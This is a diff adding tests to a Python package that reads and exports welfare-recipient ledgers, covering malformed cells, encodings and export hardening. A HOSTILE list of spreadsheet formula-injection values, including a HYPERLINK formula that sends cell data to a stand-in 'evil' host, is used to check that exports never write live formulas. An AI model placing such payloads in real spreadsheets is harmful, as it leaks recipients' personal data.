@@ -18,6 +18,7 @@ from wushe.io import (
     load_ledgers,
 )
 from wushe.models import COLLECTIONS, Dataset
+from wushe.privacy import REVEAL
 from wushe.vocab import ActivityType, TargetGroup
 
 ROOT = Path(__file__).parents[2]
@@ -206,6 +207,211 @@ def test_revealed_xlsx_export_round_trips(tmp_path_factory, ds):
     export_ledgers(ds, book, reveal=True, lang="en")
     report = ledger_report(book, base=header_of(ds))
     assert report.dataset == ds, report.summary()
+
+
+# --- hardening (#11) --------------------------------------------------------------------
+
+PHONE = "13812345678"
+
+
+def test_values_under_a_blank_header_or_right_of_the_last_are_reported_not_echoed(
+    tmp_path, qxg
+):
+    ledger = write_csv(
+        tmp_path / "recipients.csv",
+        [
+            ["recipient_id", "姓名", "", "身份证号", "所在社区", "对象类别"],
+            ["n1", "钱桂芳", PHONE, ID_1941, "qxg-c02", "独居老人", "", PHONE],
+            ["n2", "钱桂芳", "", ID_1941, "qxg-c02", "独居老人", "", PHONE],
+        ],
+    )
+    report = ledger_report(ledger, base=qxg)
+    stray = [i for i in report.issues if i.code == "unlabelled_cells"]
+    assert [(i.row, i.message.split(" (")[0]) for i in stray] == [
+        (2, "column C"),
+        (2, "column H"),
+    ]
+    assert "blank header" in stray[0].message
+    assert "right of the last header" in stray[1].message
+    assert "2–3" in stray[1].message
+    assert PHONE not in report.summary()
+
+
+def test_hostile_cells_are_field_issues_not_crashes(tmp_path, qxg):
+    ledger = write_csv(
+        tmp_path / "recipients.csv",
+        [
+            ["recipient_id", "姓名", "身份证号", "所在社区", "对象类别", "认定日期"],
+            ["n1", "钱桂芳", ID_1941, "qxg-c02", "[" * 3000, "1e10"],
+            ["n2", "钱桂芳", ID_1941, "qxg-c02", "独居老人", "-1e300"],
+        ],
+    )
+    report = ledger_report(ledger, base=qxg)
+    fields = {(i.row, i.field) for i in report.issues}
+    assert {(2, "assessed_on"), (3, "assessed_on")} <= fields
+    assert any(row == 2 and field.startswith("target_groups") for row, field in fields)
+
+
+def test_unformatted_excel_date_number_out_of_range_is_a_field_issue(tmp_path, qxg):
+    openpyxl = pytest.importorskip("openpyxl")
+    book = openpyxl.Workbook()
+    ws = book.worksheets[0]
+    ws.title = "服务对象"
+    ws.append(["recipient_id", "姓名", "身份证号", "所在社区", "对象类别", "认定日期"])
+    ws.append(["n1", "钱桂芳", ID_1941, "qxg-c02", "独居老人", 1e10])
+    book.save(tmp_path / "r.xlsx")
+    report = ledger_report(tmp_path / "r.xlsx", base=qxg)
+    assert [(i.row, i.field) for i in report.issues] == [(2, "assessed_on")]
+
+
+@pytest.mark.parametrize("content", [b"", b"not a zip at all"])
+def test_broken_workbook_is_one_file_issue(tmp_path, qxg, content):
+    (tmp_path / "recipients.xlsx").write_bytes(content)
+    report = ledger_report(tmp_path / "recipients.xlsx", base=qxg)
+    assert [i.code for i in report.issues] == ["not_a_workbook"]
+
+
+def test_over_long_csv_cell_is_an_issue_naming_the_row(tmp_path, qxg):
+    ledger = write_csv(
+        tmp_path / "recipients.csv",
+        [["recipient_id", "姓名"], ["n1", "x" * 140_000]],
+    )
+    report = ledger_report(ledger, base=qxg)
+    assert ("unreadable_row", 2) in {(i.code, i.row) for i in report.issues}
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil/?x="&A1,"点此")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "'=x",
+    "'quoted",
+]
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_export_never_writes_a_live_formula_and_revealed_export_round_trips(
+    tmp_path, qxg, suffix
+):
+    first = qxg.organizations[0]
+    organizations = (
+        first,
+        *(
+            first.model_copy(update={"organization_id": f"h{i}", "name": name})
+            for i, name in enumerate(HOSTILE)
+        ),
+    )
+    ds = qxg.model_copy(update={"organizations": organizations})
+    (path,) = export_ledgers(
+        ds, tmp_path / f"organizations{suffix}", kinds=["organizations"], reveal=True
+    )
+    if suffix == ".csv":
+        text = path.read_text(encoding="utf-8-sig")
+        assert "'=HYPERLINK" in text
+        assert "''=x" in text
+        assert "\n=" not in text
+        assert ",=" not in text
+    else:
+        openpyxl = pytest.importorskip("openpyxl")
+        cells = [
+            c
+            for row in openpyxl.load_workbook(path).worksheets[0].iter_rows()
+            for c in row
+        ]
+        assert all(c.data_type != "f" for c in cells)
+    base = ds.model_copy(update={"organizations": ()})
+    back = load_ledgers(path, base=base.model_dump(mode="json", context=REVEAL))
+    assert {o.name for o in back.organizations} >= set(HOSTILE)
+    assert back.organizations == ds.organizations
+
+
+def test_masked_xlsx_export_writes_no_formula(tmp_path, qxg):
+    openpyxl = pytest.importorskip("openpyxl")
+    first = qxg.communities[0].model_copy(update={"name": '=HYPERLINK("http://x")'})
+    ds = qxg.model_copy(update={"communities": (first, *qxg.communities[1:])})
+    (path,) = export_ledgers(ds, tmp_path / "all.xlsx")
+    book = openpyxl.load_workbook(path)
+    assert all(
+        c.data_type != "f"
+        for ws in book.worksheets
+        for row in ws.iter_rows()
+        for c in row
+    )
+
+
+# --- ledgers as clerks save them (#14) -------------------------------------------------
+
+CLERK_ROWS = [
+    ["编号", "姓名", "身份证号", "所在社区", "对象类别"],
+    ["n1", "钱桂芳", ID_1941, "qxg-c02", "独居老人"],
+]
+
+
+@pytest.mark.parametrize(
+    ("name", "encoding", "separator"),
+    [
+        ("服务对象.csv", "gb18030", ","),
+        ("服务对象.txt", "utf-16", "\t"),  # Excel's "Unicode text"
+        ("服务对象.csv", "utf-16-le", ","),
+        ("服务对象.csv", "utf-8-sig", ","),
+    ],
+)
+def test_ledgers_saved_by_excel_in_any_of_its_encodings_are_read(
+    tmp_path, qxg, name, encoding, separator
+):
+    text = "\r\n".join(separator.join(row) for row in CLERK_ROWS) + "\r\n"
+    (tmp_path / name).write_bytes(text.encode(encoding))
+    report = ledger_report(tmp_path / name, base=qxg)
+    assert report.ok, report.summary()
+    assert report.dataset is not None
+    assert "n1" in {r.recipient_id for r in report.dataset.recipients}
+
+
+@pytest.mark.parametrize("content", [b"", b"\xef\xbb\xbf", b" \r\n,,\r\n"])
+def test_empty_or_bom_only_ledger_is_reported_as_empty(tmp_path, qxg, content):
+    (tmp_path / "服务对象.csv").write_bytes(content)
+    report = ledger_report(tmp_path / "服务对象.csv", base=qxg)
+    assert [(i.code, i.message) for i in report.issues] == [
+        ("empty", "the file is empty")
+    ]
+
+
+def test_empty_folder_and_empty_dataset_file_are_reported_as_empty(tmp_path, qxg):
+    (tmp_path / "ledgers").mkdir()
+    report = ledger_report(tmp_path / "ledgers", base=qxg)
+    assert [i.code for i in report.issues] == ["empty"]
+    (tmp_path / "street.json").write_bytes(b"\xef\xbb\xbf\n")
+    with pytest.raises(LoadError) as info:
+        load_dataset(tmp_path / "street.json")
+    assert [i.code for i in info.value.report.issues] == ["empty"]
+
+
+def test_remarks_column_is_skipped_with_a_note_and_the_rows_import(tmp_path, qxg):
+    ledger = write_csv(
+        tmp_path / "服务对象.csv",
+        [[*CLERK_ROWS[0], "备注"], [*CLERK_ROWS[1], "独居，子女在外地 13800000000"]],
+    )
+    report = ledger_report(ledger, base=qxg)
+    assert report.ok, report.summary()
+    assert any("'备注' holds remarks" in note for note in report.notes)
+    assert "13800000000" not in report.summary()
+
+
+def test_unknown_column_is_reported_once_and_the_rows_are_still_checked(tmp_path, qxg):
+    ledger = write_csv(
+        tmp_path / "服务对象.csv",
+        [
+            [*CLERK_ROWS[0], "血型"],
+            [*CLERK_ROWS[1], "A"],
+            ["n2", "冯德明", "500103195807220132", "qxg-c05", "特困人员", "B"],
+        ],
+    )
+    report = ledger_report(ledger, base=qxg)
+    assert sorted((i.code, i.row) for i in report.issues) == [
+        ("unknown_column", 1),
+        ("value_error", 3),
+    ]
 
 
 def test_ledger_with_a_bare_ambiguous_type_is_reported_with_the_choices(tmp_path, qxg):
